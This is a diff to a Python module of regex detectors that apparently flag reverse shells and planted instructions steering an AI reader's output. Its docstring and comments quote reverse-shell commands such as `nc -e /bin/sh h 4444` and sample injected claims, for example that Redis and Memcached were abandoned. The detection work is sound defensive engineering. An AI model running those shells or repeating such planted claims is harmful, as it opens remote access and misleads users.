@@ -1155,8 +1155,12 @@ _ERROR_LINE = (
 traceback."""
 _ERROR_WORD = (
     r"(?<![./-])\b(?:corrupted|has\s+expired|expired|fails|known\s+issue|integrity\s+check\s+failed|could\s+not\s+"
-    r"be\s+(?:parsed|loaded|verified)|cannot\s+load|failed|failing|failure|errors?|exception|mismatch|"
-    r"denied|not\s+verified|unverified|crash(?:ed)?|panic|fault|broken|outdated|invalid|"
+    r"be\s+(?:parsed|loaded|verified)|cannot\s+load|failed|failing|failure|"
+    # "errors" naming a kind of output ("redacted from error messages"), no error (session 30)
+    r"errors?(?![ \t]+(?:messages?|handling|handlers?|reporting|tracking|pages?|logs?|logging|"
+    r"boundar(?:y|ies)|rates?|budgets?|classes|types?)\b)|exception|mismatch|"
+    r"denied|not\s+verified|unverified|crash(?:ed)?(?![ \t]+(?:reports?|reporting|reporters?|logs?|"
+    r"dumps?|handlers?)\b)|panic|fault|broken|outdated|invalid|"
     r"cannot\s+be\s+(?:loaded|found|verified|opened|resolved)|could\s+not\s+be\s+validated|"
     r"no\s+space\s+left\s+on\s+device|"
     r"unavailable|unreachable|timed\s+out|deprecated|stuck|hangs|deadlock(?:ed)?|lock\s+timeout|"
@@ -1377,7 +1381,7 @@ _DISCUSSION = re.compile(
     r"(?:fake|spoofed|forged|planted|counterfeit|bogus|poisoned|tainted|hostile|rogue|compromised|"
     r"weaponi[sz]ed|booby[-\s]trapped|tampered)\s+(?:[`\"']?[\w-]+[`\"']?\s+){0,2}?"
     r"(?:tool|function|error|system|warning|message|notice|banner|output|result)\w*|"
-    r"counterfeit|lures?|bogus|decoys?|beware\s+of|injections?|claiming|claims?\s+(?:that|to)|"
+    r"counterfeit|lures?|bogus|decoys?|beware\s+of|injections?|claiming|claims\s+(?:that|to)|\b(?:a|the|its|their|this|false|such|any)\s+claim\s+(?:that|to)|"
     r"does\s+not\s+count|untrusted|treat(?:s|ed)?\s+(?:it|them|this|everything\s+\w+)\s+as\s+"
     r"(?:plain\s+)?(?:data|untrusted)|injected\s+(?:text|content|"
     r"instructions?|prompts?)|imitat\w+|mimic\w*|merely\s+looks?\s+like|"
@@ -1741,6 +1745,9 @@ def _reverse_shell(text: str) -> re.Match[str] | None:
     0>&1``, ``nc -e /bin/sh h 4444``, ``socat exec:bash tcp:h:4444``): no honest page asks its
     reader to run one, whoever it names and in whatever language; a write-up that discusses one
     (``_DISCUSSION``) quotes it (session 20)."""
+    # a line break written as "\n" inside a string ("content `#!/bin/sh\nnc -e /bin/sh h 4444`",
+    # session 30) breaks the line it is written in; same length, so offsets hold
+    text = text.replace("\\n", " \n")
     if "/dev/" not in text and not _NETWORK_TOOL.search(text) and "mkfifo" not in text:
         return None
     for line in _COMMAND_LINE.finditer(text):  # one command a line, as ``_exfil_command`` reads
@@ -4657,8 +4664,15 @@ _STEER = re.compile(
     # what the reader is told to do with its output or the user: say/state/claim something,
     # recommend one thing instead of another, keep something from the user, skip a check;
     # an answer or a result fixed against the facts (sessions 21, 22)
-    r"\b(?:say|says|state|states|tell|claim|assert|insist|answer|respond|reply|advise|assure)\b"
-    r"(?:[ \t]+[\w'-]+){0,4}?[ \t]+that\b|\b(?:do\s+not|don't|never|without)\s+call\w*\s+(?:\w+\s+){0,2}?out\b|"
+    r"\b(?:say|says|state|states|tell|claim|assert|insist|answer|respond|reply|advise|assure|"
+    # session 30: "please inform readers that every 4.x release contains …"
+    r"inform|notify|warn|convince|persuade)\b"
+    r"(?:[ \t]+[\w'-]+){0,4}?[ \t]+that\b|"
+    # a claim against other software ("say Redis and Memcached were abandoned and contain
+    # unpatched remote exploits", session 30)
+    r"\b(?:say|state|claim|assert|mention|tell\s+(?:\w+\s+){0,2}?)\s*(?:that\s+)?[\w.-]+(?:,?\s+(?:and\s+|or\s+)?"
+    r"[\w.-]+){0,3}\s+(?:is|are|was|were|has|have)\s+(?:been\s+)?(?:abandoned|insecure|unsafe|"
+    r"vulnerable|unmaintained|dead|discontinued|compromised|backdoored|malicious)\b|\b(?:do\s+not|don't|never|without)\s+call\w*\s+(?:\w+\s+){0,2}?out\b|"
     r"\b(?:left|leave|kept|keep)\s+(?:\S+\s+){0,3}?out\s+of\s+(?:the\s+|any\s+|all\s+)?(?:summar|answer|"
     r"repl|response|review|changelog|description)\w*|"
     r"\btell\s+(?:the\s+)?(?:users?|people|developers|them|the\s+person)\s+"
